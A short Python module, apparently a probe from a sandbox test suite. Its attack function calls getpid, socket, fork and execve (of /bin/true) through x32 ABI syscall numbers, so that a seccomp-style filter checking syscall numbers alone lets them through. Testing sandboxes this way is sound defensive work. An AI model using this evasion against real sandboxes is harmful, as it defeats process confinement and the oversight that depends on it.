"""Makes its calls by the numbers of x32, which a filter that looks at numbers alone would pass."""

from tools import call, those_that_work


def attack(target):
    x32 = 0x40000000
    return those_that_work(
        {
            "getpid": lambda: call(x32 + 39, None),
            "socket": lambda: call(x32 + 41, None, 2, 1, 0),
            "fork": lambda: call(x32 + 57, None),
            "execve": lambda: call(x32 + 520, None, b"/bin/true", None, None),
        }
    )
